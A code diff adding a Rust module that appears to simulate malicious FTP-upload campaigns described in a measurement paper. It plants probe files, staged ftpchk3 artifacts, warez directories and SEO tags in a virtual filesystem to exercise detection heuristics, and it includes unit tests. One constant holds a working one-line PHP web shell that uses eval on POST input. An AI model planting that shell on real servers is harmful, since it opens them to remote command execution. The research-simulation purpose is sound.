@@ -1,0 +1,272 @@
+//! Malicious-campaign artifact injection (§VI).
+//!
+//! Each campaign plants the exact filenames/markers the paper describes;
+//! the analysis crate detects them by the same heuristics the authors
+//! used (name matching, co-location, directory-name signatures), so the
+//! detection code path is genuinely exercised rather than fed labels.
+
+use crate::rates::Campaign;
+use ftp_proto::listing::Permissions;
+use rand::rngs::StdRng;
+use rand::Rng;
+use simvfs::{FileMeta, Owner, Vfs};
+
+/// The ftpchk3 campaign's observable stages (§VI-B). Stage 4 is the
+/// unknown final payload the paper could not observe; it never appears
+/// on disk.
+pub const FTPCHK3_STAGES: [&str; 3] = ["ftpchk3.txt", "ftpchk3.php", "ftpchk3.php.1"];
+
+/// RAT filenames seeded by the reference-set campaigns.
+pub const RAT_NAMES: &[&str] = &["x.php", "up.php", "shell.php", "sh3ll.php", "cmd.php"];
+
+/// The one-line PHP RAT §VI-B quotes.
+pub const RAT_ONELINER: &str = "<?php eval($_POST[5]);?>";
+
+/// DDoS script names (§VI-B).
+pub const DDOS_NAMES: [&str; 2] = ["history.php", "phzLtoxn.php"];
+
+/// Holy Bible SEO campaign tag file (§VI-B).
+pub const HOLY_BIBLE_TAG: &str = "Holy-Bible.html";
+
+/// Keygen-service flier basenames (§VI-C).
+pub const FLIER_NAMES: [&str; 2] = ["cool-cracking-service.pdf", "keygen-offer.ps"];
+
+fn uploaded(rng: &mut StdRng, content: &str) -> FileMeta {
+    FileMeta::public(content.len() as u64)
+        .with_content(content)
+        .with_owner(Owner::Anonymous)
+        .with_mtime(format!("Jun {:2}  2015", rng.random_range(1..19)))
+}
+
+/// Write-probe content variants the paper lists: "Anonymous", "test",
+/// random characters, or a little base64.
+fn probe_content(rng: &mut StdRng) -> String {
+    match rng.random_range(0..4) {
+        0 => "Anonymous".to_owned(),
+        1 => "test".to_owned(),
+        2 => (0..12).map(|_| (b'a' + rng.random_range(0..26u8)) as char).collect(),
+        _ => "dGVzdCBwcm9iZQ==".to_owned(),
+    }
+}
+
+/// A writable upload spot on the victim: the webroot when present, else
+/// an incoming directory.
+fn upload_spot(vfs: &Vfs) -> &'static str {
+    if vfs.is_dir("/www") {
+        "/www"
+    } else {
+        "/incoming"
+    }
+}
+
+/// Plants one campaign's artifacts on `vfs`. The `unique_suffix` flag
+/// mirrors the server's upload quirk: probe files then appear with
+/// `.1`/`.2` suffixes, the §VI-A reference-set signal.
+pub fn inject(vfs: &mut Vfs, rng: &mut StdRng, campaign: Campaign, unique_suffix: bool) {
+    let spot = upload_spot(vfs);
+    let put = |vfs: &mut Vfs, rng: &mut StdRng, name: &str, content: &str| {
+        let meta = uploaded(rng, content);
+        if unique_suffix {
+            let _ = vfs.store_unique(&format!("{spot}/{name}"), meta.clone());
+            // Repeat probes are what create the suffix trail.
+            if rng.random_bool(0.5) {
+                let _ = vfs.store_unique(&format!("{spot}/{name}"), meta);
+            }
+        } else {
+            let _ = vfs.add_file(&format!("{spot}/{name}"), meta);
+        }
+    };
+    match campaign {
+        Campaign::ProbeW0t => {
+            let ext = if rng.random_bool(0.5) { "txt" } else { "php" };
+            let c = probe_content(rng);
+            put(vfs, rng, &format!("w0000000t.{ext}"), &c);
+        }
+        Campaign::ProbeSjutd => {
+            let c = probe_content(rng);
+            put(vfs, rng, "sjutd.txt", &c);
+        }
+        Campaign::ProbeHelloWorld => {
+            let c = probe_content(rng);
+            put(vfs, rng, "hello.world.txt", &c);
+        }
+        Campaign::Ftpchk3 => {
+            // Victims are found in various stages of infection.
+            let stage = rng.random_range(1..=3usize);
+            let contents = ["probe", "<?php echo 'OK'; ?>", "<?php phpinfo(); /*CMS scan*/ ?>"];
+            for (i, name) in FTPCHK3_STAGES.iter().take(stage).enumerate() {
+                put(vfs, rng, name, contents[i]);
+            }
+        }
+        Campaign::Rat => {
+            let n = rng.random_range(1..=4usize);
+            for _ in 0..n {
+                let name = RAT_NAMES[rng.random_range(0..RAT_NAMES.len())];
+                // Spread across the filesystem to hit the web root.
+                let dir = if rng.random_bool(0.6) { upload_spot(vfs).to_owned() } else { format!("{}/app", upload_spot(vfs)) };
+                let _ = vfs.add_file(&format!("{dir}/{name}"), uploaded(rng, RAT_ONELINER));
+            }
+        }
+        Campaign::Ddos => {
+            let name = DDOS_NAMES[rng.random_range(0..2)];
+            put(
+                vfs,
+                rng,
+                name,
+                "<?php $t=$_GET['t']; $p=$_GET['p']; /* 65kB UDP flood loop */ ?>",
+            );
+        }
+        Campaign::HolyBible => {
+            put(vfs, rng, HOLY_BIBLE_TAG, "<html><!-- holy bible seo --></html>");
+            // The campaign injects hrefs into existing web files and
+            // deletes archives; model the tag plus an infected index.
+            if vfs.exists("/www") {
+                let _ = vfs.add_file(
+                    "/www/index.php",
+                    uploaded(rng, "<?php /* injected href farm */ ?>"),
+                );
+            }
+        }
+        Campaign::KeygenFlier => {
+            for name in FLIER_NAMES {
+                put(vfs, rng, name, "Really cool software cracking service. $300-$500. Bitmessage.");
+            }
+        }
+        Campaign::Warez => {
+            // Dated transport directories: YYMMDD + 6-digit time + 'p'.
+            let n = rng.random_range(1..=5usize);
+            for _ in 0..n {
+                let dir = format!(
+                    "{:02}{:02}{:02}{:02}{:02}{:02}p",
+                    rng.random_range(10..16),
+                    rng.random_range(1..13),
+                    rng.random_range(1..29),
+                    rng.random_range(0..24),
+                    rng.random_range(0..60),
+                    rng.random_range(0..60),
+                );
+                let path = format!("{}/{dir}", upload_spot(vfs));
+                let _ = vfs.mkdir_p(&path);
+                // Many observed directories were already emptied (§VI-C).
+                if rng.random_bool(0.35) {
+                    let _ = vfs.add_file(
+                        &format!("{path}/release.r{:02}", rng.random_range(0..30)),
+                        FileMeta {
+                            perms: Permissions::public_file(),
+                            ..uploaded(rng, "warez blob")
+                        },
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::SeedableRng;
+
+    fn base() -> Vfs {
+        let mut v = Vfs::new();
+        v.mkdir_p("/incoming").unwrap();
+        v
+    }
+
+    #[test]
+    fn probes_land_with_expected_names() {
+        for (campaign, needle) in [
+            (Campaign::ProbeW0t, "w0000000t."),
+            (Campaign::ProbeSjutd, "sjutd.txt"),
+            (Campaign::ProbeHelloWorld, "hello.world.txt"),
+        ] {
+            let mut v = base();
+            inject(&mut v, &mut StdRng::seed_from_u64(1), campaign, false);
+            assert!(
+                v.walk().iter().any(|(p, _)| p.contains(needle)),
+                "{campaign:?} missing {needle}"
+            );
+        }
+    }
+
+    #[test]
+    fn unique_suffix_leaves_reference_trail() {
+        let mut v = base();
+        // Seed chosen arbitrarily; the 0.5 repeat coin means we try a few.
+        let mut found_suffix = false;
+        for seed in 0..10 {
+            let mut v2 = base();
+            inject(&mut v2, &mut StdRng::seed_from_u64(seed), Campaign::ProbeSjutd, true);
+            inject(&mut v2, &mut StdRng::seed_from_u64(seed + 100), Campaign::ProbeSjutd, true);
+            if v2.exists("/incoming/sjutd.txt.1") {
+                found_suffix = true;
+                v = v2;
+                break;
+            }
+        }
+        assert!(found_suffix, "repeat probes create .1 suffixes");
+        assert!(v.exists("/incoming/sjutd.txt"));
+    }
+
+    #[test]
+    fn ftpchk3_stages_are_cumulative() {
+        let mut any_multi = false;
+        for seed in 0..20 {
+            let mut v = base();
+            inject(&mut v, &mut StdRng::seed_from_u64(seed), Campaign::Ftpchk3, false);
+            assert!(v.exists("/incoming/ftpchk3.txt"), "stage 1 always present");
+            if v.exists("/incoming/ftpchk3.php") {
+                any_multi = true;
+            }
+        }
+        assert!(any_multi, "later stages occur");
+    }
+
+    #[test]
+    fn rats_carry_the_oneliner() {
+        let mut v = base();
+        inject(&mut v, &mut StdRng::seed_from_u64(3), Campaign::Rat, false);
+        let rat = v
+            .walk()
+            .into_iter()
+            .find(|(p, n)| !n.is_dir() && RAT_NAMES.iter().any(|r| p.ends_with(r)));
+        let (path, _) = rat.expect("a RAT file landed");
+        assert_eq!(v.file(&path).unwrap().content.as_deref(), Some(RAT_ONELINER));
+    }
+
+    #[test]
+    fn warez_dirs_match_signature() {
+        let mut v = base();
+        inject(&mut v, &mut StdRng::seed_from_u64(5), Campaign::Warez, false);
+        let dirs: Vec<String> = v
+            .walk()
+            .into_iter()
+            .filter(|(_, n)| n.is_dir())
+            .map(|(p, _)| p)
+            .collect();
+        let sig = dirs.iter().any(|p| {
+            let name = p.rsplit('/').next().unwrap_or("");
+            name.len() == 13 && name.ends_with('p') && name[..12].chars().all(|c| c.is_ascii_digit())
+        });
+        assert!(sig, "{dirs:?}");
+    }
+
+    #[test]
+    fn holy_bible_tag_lands() {
+        let mut v = base();
+        inject(&mut v, &mut StdRng::seed_from_u64(9), Campaign::HolyBible, false);
+        assert!(v.walk().iter().any(|(p, _)| p.ends_with(HOLY_BIBLE_TAG)));
+    }
+
+    #[test]
+    fn uploads_are_owned_by_anonymous() {
+        let mut v = base();
+        inject(&mut v, &mut StdRng::seed_from_u64(2), Campaign::Ddos, false);
+        let (path, _) = v
+            .walk()
+            .into_iter()
+            .find(|(p, n)| !n.is_dir() && DDOS_NAMES.iter().any(|d| p.ends_with(d)))
+            .expect("ddos script present");
+        assert_eq!(v.file(&path).unwrap().owner, Owner::Anonymous);
+    }
+}
